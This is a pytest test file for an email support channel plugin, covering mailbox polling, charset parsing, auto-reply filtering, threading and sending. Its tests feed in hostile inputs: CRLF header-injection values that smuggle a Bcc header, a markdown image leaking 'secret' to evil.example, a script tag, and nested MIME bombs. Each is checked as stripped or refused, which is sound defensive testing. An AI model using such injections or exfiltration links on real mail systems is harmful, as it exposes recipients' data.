"""The channel against a mailbox and a mail server of the test's own."""

from __future__ import annotations

import asyncio
from datetime import UTC, date, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from typing import Any

import pytest
from csai_channel_email.channel import EmailChannel
from csai_channel_email.mailbox import MAX_MAILS
from csai_channel_email.news import news_of
from csai_channel_email.settings import MailAccount
from csai_channel_email.writing import mail_for
from csai_sdk import ChannelAccount, ChannelError, DeliveryStatus, InboundMessage, OutboundMessage
from csai_testkit.context import FakeClock, make_context
from pydantic import SecretStr, ValidationError

from plugins.channels.email.tests.mail_servers import Mailbox, PostOffice, open_mailbox, open_post_office

CHANNEL = EmailChannel()


def account(mailbox: Mailbox | None = None, office: PostOffice | None = None, **given: Any) -> ChannelAccount:
    values = {
        "address": "help@shop.example",
        "sender_name": "The Shop",
        "password": "mailbox-password",
        "imap_host": "127.0.0.1",
        "imap_port": mailbox.port if mailbox else 9,
        "imap_security": "none",
        "smtp_host": "127.0.0.1",
        "smtp_port": office.port if office else 9,
        "smtp_security": "none",
        **given,
    }
    return ChannelAccount("account-1", MailAccount.model_validate(values))


def mail(text: str = "Where is my order?", **headers: str) -> bytes:
    written = EmailMessage(policy=policy.SMTP)
    given = {
        "From": "Ann Visitor <Ann@Visitor.example>",
        "To": "help@shop.example",
        "Subject": "My order",
        "Message-ID": "<one@visitor.example>",
        "Date": "Tue, 03 Nov 2026 10:00:00 +0200",
    }
    for name, value in {
        **given,
        **{each.replace("_", "-"): value for each, value in headers.items()},
    }.items():
        if value:
            written[name] = value
    written.set_content(text)
    return written.as_bytes()


def read(content: bytes) -> list[Any]:
    return list(news_of(content, "help@shop.example", lambda attachment: f"ref-{attachment.index}"))


async def test_new_mail_is_found_once_and_old_mail_is_left_alone() -> None:
    async with open_mailbox() as mailbox:
        mailbox.add(mail("from before", Message_ID="<before@visitor.example>"))
        first = await CHANNEL.poll(None, account(mailbox), make_context())
        mailbox.add(mail())
        second = await CHANNEL.poll(first.cursor, account(mailbox), make_context())
        third = await CHANNEL.poll(second.cursor, account(mailbox), make_context())
    assert list(first.news) == list(third.news) == []
    (message,) = second.news
    assert isinstance(message, InboundMessage)
    found = (message.message_id, message.address, message.text)
    assert found == ("<one@visitor.example>", "ann@visitor.example", "Where is my order?")
    assert not any(
        command.upper().startswith(("STORE", "UID STORE", "SELECT")) for command in mailbox.commands
    )


async def test_a_server_that_keeps_its_next_uid_to_itself_is_read_too() -> None:
    async with open_mailbox(tells_next_uid=False) as mailbox:
        mailbox.add(mail("from before"))
        first = await CHANNEL.poll(None, account(mailbox), make_context())
        mailbox.add(mail(Message_ID="<two@visitor.example>"))
        second = await CHANNEL.poll(first.cursor, account(mailbox), make_context())
    assert [each.message_id for each in second.news if isinstance(each, InboundMessage)] == [
        "<two@visitor.example>"
    ]


async def test_many_mails_are_read_in_several_looks_in_their_order() -> None:
    async with open_mailbox() as mailbox:
        cursor = (await CHANNEL.poll(None, account(mailbox), make_context())).cursor
        for number in range(MAX_MAILS + 3):
            mailbox.add(mail(Message_ID=f"<{number}@visitor.example>"))
        found = []
        for _ in range(3):
            polled = await CHANNEL.poll(cursor, account(mailbox), make_context())
            cursor = polled.cursor
            found += [each.message_id for each in polled.news if isinstance(each, InboundMessage)]
    assert found == [f"<{number}@visitor.example>" for number in range(MAX_MAILS + 3)]


async def test_of_a_folder_that_was_made_anew_only_what_is_new_is_read() -> None:
    clock = FakeClock(datetime(2026, 11, 3, 12, tzinfo=UTC))
    async with open_mailbox() as mailbox:
        for number in range(3):
            mailbox.days[mailbox.add(mail(Message_ID=f"<old-{number}@visitor.example>"))] = date(2026, 1, 5)
        cursor = (await CHANNEL.poll(None, account(mailbox), make_context(clock=clock))).cursor
        mailbox.validity += 1
        mailbox.days[mailbox.add(mail())] = date(2026, 11, 3)
        polled = await CHANNEL.poll(cursor, account(mailbox), make_context(clock=clock))
        again = await CHANNEL.poll(polled.cursor, account(mailbox), make_context(clock=clock))
        known_no_day = {"validity": 7, "uid": 3}
        first = await CHANNEL.poll(known_no_day, account(mailbox), make_context(clock=clock))
    assert [each.message_id for each in polled.news if isinstance(each, InboundMessage)] == [
        "<one@visitor.example>"
    ]
    assert polled.cursor == {"validity": 8, "uid": 4, "day": "2026-11-03"}
    assert "UID 1:* SINCE 02-Nov-2026" in mailbox.searched
    assert list(again.news) == list(first.news) == []


async def test_large_mails_wait_for_the_next_look(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("csai_channel_email.mailbox.MAX_LOOK_BYTES", 4_000)
    async with open_mailbox() as mailbox:
        cursor = (await CHANNEL.poll(None, account(mailbox), make_context())).cursor
        for number in range(5):
            mailbox.add(mail("x " * 600, Message_ID=f"<{number}@visitor.example>"))
        looks = []
        for _ in range(4):
            polled = await CHANNEL.poll(cursor, account(mailbox), make_context())
            cursor = polled.cursor
            looks.append([each.message_id for each in polled.news if isinstance(each, InboundMessage)])
    assert [len(look) for look in looks] == [2, 2, 1, 0]
    assert [each for look in looks for each in look] == [f"<{number}@visitor.example>" for number in range(5)]


async def test_a_server_that_never_ends_is_hung_up_on(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("csai_channel_email.mailbox.MAX_SAID_BYTES", 5_000)
    async with open_mailbox() as mailbox:
        cursor = (await CHANNEL.poll(None, account(mailbox), make_context())).cursor
        mailbox.add(mail("x" * 900 + "\n" + "y" * 5_000))
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.poll(cursor, account(mailbox), make_context())
    assert caught.value.fault == "busy"


def nested(kind: str, depth: int) -> bytes:
    head = b"From: a@b.example\r\n"
    for number in range(depth):
        if kind == "multipart":
            head += b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (number, number)
        else:
            head += b"Content-Type: message/rfc822\r\n\r\n"
    return head + b"Content-Type: text/plain\r\n\r\nhello\r\n"


@pytest.mark.parametrize(
    "hostile",
    [
        nested("multipart", 3_000),
        nested("message", 3_000),
        b"From: a@b.example\r\nContent-Type: text/plain; " + b"(" * 3_000 + b"\r\n\r\nhello",
        b"From: " + b"(" * 3_000 + b"\r\n\r\nhello",
    ],
    ids=["multipart", "message", "type", "sender"],
)
async def test_a_mail_that_cannot_be_read_does_not_stop_those_behind_it(hostile: bytes) -> None:
    async with open_mailbox() as mailbox:
        cursor = (await CHANNEL.poll(None, account(mailbox), make_context())).cursor
        mailbox.add(hostile)
        mailbox.add(mail())
        polled = await CHANNEL.poll(cursor, account(mailbox), make_context())
    found = [each.message_id for each in polled.news if isinstance(each, InboundMessage)]
    assert found == ["<one@visitor.example>"]


@pytest.mark.parametrize("charset", ["idna", "undefined", "hex", "utf-7", "=?utf-8?q?x?=", "no-such"])
def test_a_charset_of_no_text_is_read_all_the_same(charset: str) -> None:
    head = f"From: a@b.example\r\nContent-Type: text/plain; charset={charset!r}\r\n\r\n".encode()
    (message,) = read(head + b"hello \xff")
    assert message.text.startswith("hello")


@pytest.mark.parametrize("charset", ["iso-8859-8-i", "iso-8859-8", "windows-1255", "utf-8"])
def test_hebrew_is_read_in_the_charsets_it_is_written_in(charset: str) -> None:
    words = "\u05d0\u05d9\u05e4\u05d4 \u05d4\u05d4\u05d6\u05de\u05e0\u05d4?"
    head = f'From: a@b.example\r\nContent-Type: text/plain; charset="{charset}"\r\n\r\n'.encode()
    (message,) = read(head + words.encode(charset.removesuffix("-i")))
    assert message.text == words


def test_a_mail_within_the_mail_and_a_named_text_are_files_not_words() -> None:
    written = EmailMessage(policy=policy.SMTP)
    written["From"], written["Message-ID"] = "ann@visitor.example", "<file@visitor.example>"
    written.set_content("See what they wrote.")
    inner = EmailMessage()
    inner["Subject"] = "Old"
    inner.set_content("Words of somebody else.")
    written.add_attachment(inner)
    written.add_attachment("a log", filename="log.txt", disposition="inline")
    (message,) = read(written.as_bytes())
    assert message.text == "See what they wrote."
    assert [(each.kind, each.name, each.mime_type) for each in message.media] == [
        ("document", "", "message/rfc822"),
        ("document", "log.txt", "text/plain"),
    ]


@pytest.mark.parametrize(
    "subject",
    [
        "Automatic reply: My order",
        "Undeliverable: Re: My order",
        "Delivery Status Notification (Failure)",
        "Automatische Antwort: Bestellung",
        "תשובה אוטומטית: הזמנה",
    ],
)
def test_a_program_is_known_by_its_subject_where_it_says_so_nowhere_else(subject: str) -> None:
    assert read(mail(Subject=subject)) == []


def test_a_person_may_write_about_such_mail() -> None:
    assert len(read(mail(Subject="I got an automatic reply"))) == 1


LONG_ID = "<AM0PR0402MB34098C2B7E1F0D5A6B7C8D9EF0A1@AM0PR0402MB3409.eurprd04.prod.outlook.example>"


@pytest.mark.parametrize(
    ("given", "written"),
    [
        (LONG_ID, LONG_ID),
        ("<a\x00\x1bb@x.example>", None),
        ("<h\u00e9@x.example>", None),
        ("<a@x.example>\r\nBcc: <all@x.example>", "<a@x.example>"),
        ("not an id", None),
    ],
)
def test_ids_are_written_as_they_are_and_nothing_else_is(given: str, written: str | None) -> None:
    message = OutboundMessage(
        "m", "a@b.example", "Hi", in_reply_to=given, references=(LONG_ID, "<b@x.example>\nX: y")
    )
    own = account().settings_as(MailAccount)
    raw = mail_for(message, own, "account-1", datetime(2026, 11, 3, tzinfo=UTC)).as_bytes()
    sent = message_from_bytes(raw, policy=policy.default)
    assert sent["In-Reply-To"] == written
    assert (sent["Bcc"], sent["X"]) == (None, None)
    if written is not None:
        assert f"In-Reply-To: {written}\r\n".encode() in raw
        ids = dict.fromkeys([LONG_ID, "<b@x.example>", written])
        assert sent["References"].split() == list(ids)


async def test_a_wrong_password_is_for_the_admin_to_mend() -> None:
    async with open_mailbox(password="another") as mailbox:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.poll(None, account(mailbox), make_context())
    assert caught.value.fault == "account"
    assert "mailbox-password" not in str(caught.value)


async def test_a_look_that_is_cancelled_lets_go_of_the_mailbox() -> None:
    async with open_mailbox(silent_after="EXAMINE") as mailbox:
        looking = asyncio.create_task(CHANNEL.poll(None, account(mailbox), make_context()))
        await asyncio.wait_for(mailbox.asked.wait(), 10)
        looking.cancel()
        with pytest.raises(asyncio.CancelledError):
            await looking
        await asyncio.wait_for(mailbox.gone.wait(), 10)


async def test_a_mailbox_that_is_not_there_is_tried_later() -> None:
    with pytest.raises(ChannelError) as caught:
        await CHANNEL.poll(None, account(), make_context())
    assert caught.value.fault == "busy"


async def test_an_attachment_is_named_and_can_be_fetched_while_it_lies_there() -> None:
    written = EmailMessage(policy=policy.SMTP)
    written["From"], written["Message-ID"] = "ann@visitor.example", "<file@visitor.example>"
    written.set_content("See the photo.")
    written.add_attachment(b"\x89PNG picture", maintype="image", subtype="png", filename="broken cup.png")
    async with open_mailbox() as mailbox:
        cursor = (await CHANNEL.poll(None, account(mailbox), make_context())).cursor
        uid = mailbox.add(written.as_bytes())
        (message,) = (await CHANNEL.poll(cursor, account(mailbox), make_context())).news
        assert isinstance(message, InboundMessage)
        (file,) = message.media
        fetched = await CHANNEL.fetch(file, account(mailbox), make_context(), max_bytes=100)
        with pytest.raises(ChannelError, match="too large"):
            await CHANNEL.fetch(file, account(mailbox), make_context(), max_bytes=5)
        del mailbox.mails[uid]
        with pytest.raises(ChannelError, match="gone"):
            await CHANNEL.fetch(file, account(mailbox), make_context(), max_bytes=100)
    assert (file.kind, file.name, file.mime_type, file.size_bytes) == (
        "image",
        "broken cup.png",
        "image/png",
        12,
    )
    assert fetched == b"\x89PNG picture"


@pytest.mark.parametrize(
    "headers",
    [
        {"Auto-Submitted": "auto-replied"},
        {"Auto-Submitted": "auto-generated; owner=x"},
        {"Precedence": "bulk"},
        {"List-Id": "<news.example>"},
        {"List-Unsubscribe": "<mailto:x@news.example>"},
        {"X-Auto-Response-Suppress": "All"},
        {"X-Autoreply": "yes"},
        {"Return-Path": "<>"},
        {"From": "MAILER-DAEMON@visitor.example"},
        {"From": "no-reply@visitor.example"},
        {"From": "help@shop.example"},
        {"From": "HELP@Shop.Example"},
        {"X-CSAI-Account": "account-2", "From": "other@shop.example"},
        {"From": ""},
    ],
)
def test_mail_that_no_person_wrote_is_not_answered(headers: dict[str, str]) -> None:
    assert read(mail(**{name.replace("-", "_"): value for name, value in headers.items()})) == []


def test_a_persons_mail_with_auto_submitted_no_is_answered() -> None:
    assert len(read(mail(Auto_Submitted="no"))) == 1


def test_an_answer_to_our_answer_stays_in_the_thread_even_when_only_its_last_id_is_given() -> None:
    (first,) = read(mail())
    sent = OutboundMessage(
        "m1", first.address, "It is.", thread=first.thread, subject="x", in_reply_to=first.message_id
    )
    own = account().settings_as(MailAccount)
    answer = mail_for(sent, own, "account-1", datetime(2026, 11, 3, tzinfo=UTC))
    (by_last_id,) = read(
        mail("Thanks", Message_ID="<b@visitor.example>", In_Reply_To=str(answer["Message-ID"]))
    )
    both = f"<one@visitor.example> {answer['Message-ID']}"
    (by_first_id,) = read(mail("Thanks", Message_ID="<c@visitor.example>", References=both))
    (another,) = read(mail("Something else", Message_ID="<d@visitor.example>"))
    assert first.thread == by_last_id.thread == by_first_id.thread
    assert another.thread != first.thread


def test_mail_in_strange_encodings_is_read() -> None:
    content = (
        b"From: =?windows-1255?B?7ek=?= <x@visitor.example>\r\nMessage-ID: <odd@visitor.example>\r\n"
        b"Subject: =?utf-8?q?caf=C3=A9?=\r\nContent-Type: text/plain; charset=no-such-charset\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\ncaf\xc3\xa9 \xff\r\n"
    )
    (message,) = read(content)
    assert message.subject == "caf\u00e9"
    assert message.text.startswith("caf\u00e9")


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\r\n\r\n",
        b"\x00\xff\xfe" * 100,
        b"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + b"--x\r\n" * 3000,
        b"From: a@b.example\r\nDate: never\r\nReferences: <a> <b\r\n\r\nhello",
        b"From: " + b"<" * 5000 + b"\r\n\r\nhello",
        b"From: a@b.example\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!",
    ],
)
def test_nonsense_raises_nothing(content: bytes) -> None:
    assert len(read(content)) <= 1


def test_a_report_of_a_failed_delivery_names_the_mail_that_failed() -> None:
    report = (
        b"From: MAILER-DAEMON@mx.example\r\nTo: help@shop.example\r\nMessage-ID: <r@mx.example>\r\n"
        b"Auto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/plain\r\n\r\nSorry.\r\n"
        b"--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example\r\n\r\n"
        b"Final-Recipient: rfc822; ann@visitor.example\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
        b"--b\r\nContent-Type: message/rfc822\r\n\r\n"
        b"Message-ID: <csai.m1.t0@shop.example>\r\nSubject: x\r\n\r\nbody\r\n"
        b"--b--\r\n"
    )
    assert read(report) == [DeliveryStatus("<csai.m1.t0@shop.example>", "failed", code="5.1.1")]
    assert read(report.replace(b"Action: failed", b"Action: delayed")) == []


async def test_an_answer_stands_in_its_thread_and_says_that_a_program_wrote_it() -> None:
    message = OutboundMessage(
        "message-1",
        "ann@visitor.example",
        "**Friday** it is.\n\n![pixel](https://evil.example/?q=secret) <script>x</script>",
        subject="My order",
        thread="0123456789abcdef",
        in_reply_to="<one@visitor.example>",
        references=("<zero@visitor.example>",),
    )
    async with open_post_office() as office:
        sent_id = await CHANNEL.send(
            message, account(office=office, signature="The Shop, Main Street"), make_context()
        )
        (envelope,) = office.taken
    assert (envelope.mail_from, envelope.rcpt_tos) == ("help@shop.example", ["ann@visitor.example"])
    assert isinstance(envelope.content, bytes)
    mail = message_from_bytes(envelope.content, policy=policy.default)
    assert mail["Message-ID"] == sent_id == "<csai.message-1.t0123456789abcdef@shop.example>"
    assert mail["Subject"] == "Re: My order"
    assert mail["From"] == "The Shop <help@shop.example>"
    assert mail["References"] == "<zero@visitor.example> <one@visitor.example>"
    assert mail["In-Reply-To"] == "<one@visitor.example>"
    assert mail["Auto-Submitted"] == "auto-replied"
    text, page = (mail.get_body((kind,)) for kind in ("plain", "html"))
    assert text is not None
    assert page is not None
    assert text.get_content().replace("\r\n", "\n").endswith("-- \nThe Shop, Main Street\n")
    shown = page.get_content()
    assert "<strong>Friday</strong>" in shown
    assert "<img" not in shown
    assert "<script>" not in shown


async def test_a_teammates_answer_is_not_marked_as_automatic() -> None:
    message = OutboundMessage("m", "ann@visitor.example", "Hello.", author="teammate")
    async with open_post_office() as office:
        await CHANNEL.send(message, account(office=office), make_context())
        (envelope,) = office.taken
    assert isinstance(envelope.content, bytes)
    assert message_from_bytes(envelope.content, policy=policy.default)["Auto-Submitted"] is None


async def test_hebrew_is_written_from_right_to_left() -> None:
    message = OutboundMessage("m", "ann@visitor.example", "\u05e9\u05dc\u05d5\u05dd")
    async with open_post_office() as office:
        await CHANNEL.send(message, account(office=office), make_context())
        (envelope,) = office.taken
    assert isinstance(envelope.content, bytes)
    page = message_from_bytes(envelope.content, policy=policy.default).get_body(("html",))
    assert page is not None
    assert '<div dir="rtl">' in page.get_content()


@pytest.mark.parametrize(
    "address",
    ["ann@visitor.example\r\nBcc: all@visitor.example", "ann@visitor.example, all@visitor.example", "", "x"],
)
async def test_an_address_that_could_be_several_is_refused(address: str) -> None:
    async with open_post_office() as office:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(OutboundMessage("m", address, "Hi"), account(office=office), make_context())
    assert (caught.value.fault, office.taken) == ("address", [])


@pytest.mark.parametrize("end", ["\r\n", "\n", "\u2028", "\x00"])
async def test_a_subject_writes_no_header(end: str) -> None:
    message = OutboundMessage("m", "ann@visitor.example", "Hi", subject=f"x{end}Bcc: all@visitor.example")
    async with open_post_office() as office:
        await CHANNEL.send(message, account(office=office), make_context())
        (envelope,) = office.taken
    assert envelope.rcpt_tos == ["ann@visitor.example"]
    assert isinstance(envelope.content, bytes)
    written = message_from_bytes(envelope.content, policy=policy.default)
    # The first of a thread: there is nothing that it would answer.
    assert (written["Bcc"], written["Subject"]) == (None, "x Bcc: all@visitor.example")


@pytest.mark.parametrize(
    ("said", "fault"),
    [
        ("550 no such user", "address"),
        ("451 greylisted", "busy"),
        ("421 closing", "busy"),
        ("554 spam", "refused"),
    ],
)
@pytest.mark.parametrize("command", ["RCPT", "DATA"])
async def test_what_the_mail_server_refuses_is_told_apart(command: str, said: str, fault: str) -> None:
    async with open_post_office(refusals={command: said}) as office:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(
                OutboundMessage("m", "ann@visitor.example", "Hi"), account(office=office), make_context()
            )
    assert (caught.value.fault, caught.value.is_outcome_known) == (fault, True)


async def test_a_connection_that_breaks_after_the_mail_leaves_its_outcome_unknown() -> None:
    async with open_post_office(hangs_up_after_data=True) as office:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(
                OutboundMessage("m", "ann@visitor.example", "Hi"), account(office=office), make_context()
            )
    assert not caught.value.is_outcome_known


async def test_a_wrong_password_for_sending_is_for_the_admin_to_mend() -> None:
    async with open_post_office(password="another") as office:
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(
                OutboundMessage("m", "ann@visitor.example", "Hi"), account(office=office), make_context()
            )
    assert (caught.value.fault, caught.value.is_outcome_known) == ("account", True)


async def test_a_server_without_encryption_is_not_sent_a_password() -> None:
    async with open_post_office() as office:
        given = account(office=office, smtp_security="starttls")
        with pytest.raises(ChannelError) as caught:
            await CHANNEL.send(OutboundMessage("m", "ann@visitor.example", "Hi"), given, make_context())
    assert (caught.value.fault, office.taken) == ("account", [])


async def test_the_check_says_which_side_is_wrong() -> None:
    async with open_post_office() as office, open_mailbox(folder="Support") as mailbox:
        whole = await CHANNEL.check(account(mailbox, office, imap_folder="Support"), make_context())
        no_folder = await CHANNEL.check(account(mailbox, office), make_context())
        no_smtp = await CHANNEL.check(account(mailbox), make_context())
        no_secret = await CHANNEL.check(account(mailbox, office, inbound="raw"), make_context())
    assert whole.is_ok
    assert [each.is_ok for each in (no_folder, no_smtp, no_secret)] == [False] * 3
    assert "folder" in no_folder.detail
    assert "SMTP" in no_smtp.detail
    assert "secret" in no_secret.detail


@pytest.mark.parametrize(
    "given",
    [
        {"address": "The Shop <help@shop.example>"},
        {"address": "a@b@c"},
        {"address": "x"},
        {"sender_name": 'a"b'},
        {"sender_name": "a\nb"},
        {"imap_folder": 'IN"BOX'},
        {"username": "a\r\nb"},
    ],
)
def test_settings_that_could_write_commands_or_headers_are_refused(given: dict[str, str]) -> None:
    with pytest.raises(ValidationError):
        MailAccount.model_validate(given)


def test_the_password_is_not_shown() -> None:
    assert "hidden-word" not in repr(MailAccount(password=SecretStr("hidden-word")))
